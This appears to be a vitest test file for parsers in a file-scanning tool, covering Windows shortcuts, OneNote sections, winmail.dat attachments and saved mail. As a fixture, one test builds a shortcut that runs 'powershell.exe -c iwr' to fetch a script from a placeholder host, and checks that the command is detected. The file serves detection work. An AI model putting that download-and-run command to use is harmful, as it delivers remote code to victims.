import { expect, test } from "vitest";
import { notesOf } from "../../../../test/support/builders/notes-of.ts";
import { readMail } from "./read-mail.ts";
import { readNote } from "./read-note.ts";
import { readShellLink } from "./read-shell-link.ts";
import { readTransportNeutral } from "./read-transport-neutral.ts";

test("a Windows shortcut that starts an interpreter", () => {
	const head = Buffer.from("4c0000000114020000000000c000000000000046", "hex");
	const link = (text: string) => Buffer.concat([head, Buffer.from("x"), Buffer.from(text, "utf16le")]);
	const notes = notesOf(readShellLink, link("C:\\Windows\\powershell.exe -c iwr https://b.example/a.ps1 "));
	expect([...notes.traits]).toEqual(["runs-command"]);
	expect([...notes.links]).toEqual(["https://b.example/a.ps1"]);
	expect([...notesOf(readShellLink, link("C:\\Users\\kim\\report.docx")).traits]).toEqual([]);
});

test("a OneNote section with a file on its page", () => {
	const size = Buffer.alloc(8);
	size.writeUInt32LE(6);
	const section = Buffer.concat([
		Buffer.from("head"),
		Buffer.from("e716e3bd65261145a4c48d4d0b7a9eac", "hex"),
		size,
		Buffer.alloc(12),
		Buffer.from("MZexe!"),
		Buffer.from("tail"),
	]);
	expect(notesOf(readNote, section).files.map(({ open }) => Buffer.from(open?.(99) ?? []).toString())).toEqual(["MZexe!"]);
});

test("winmail.dat", () => {
	const attribute = (id: number, data: Uint8Array) => {
		const head = Buffer.alloc(9);
		head.writeUInt8(2, 0);
		head.writeUInt32LE(id, 1);
		head.writeUInt32LE(data.length, 5);
		return Buffer.concat([head, data, Buffer.alloc(2)]);
	};
	const file = (name: string, data: string) => [
		attribute(0x00069002, Buffer.alloc(14)),
		attribute(0x00018010, Buffer.from(`${name}\0`)),
		attribute(0x0006800f, Buffer.from(data)),
	];
	const notes = notesOf(
		readTransportNeutral,
		Buffer.concat([Buffer.from("789f3e220100", "hex"), ...file("a.txt", "one"), ...file("b.exe", "two")]),
	);
	expect(notes.files.map(({ name, size }) => [name, size])).toEqual([
		["a.txt", 3],
		["b.exe", 3],
	]);
});

test("a mail saved as a file: its attachments, not its links", () => {
	const mail =
		'From: a@b.example\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\n\r\nhttps://c.example\r\n--x\r\nContent-Type: application/zip; name="a.zip"\r\n\r\nPK\r\n--x--\r\n';
	const notes = notesOf(readMail, mail);
	expect(notes.files.map(({ name }) => name)).toEqual(["a.zip"]);
	expect([...notes.links]).toEqual([]);
});
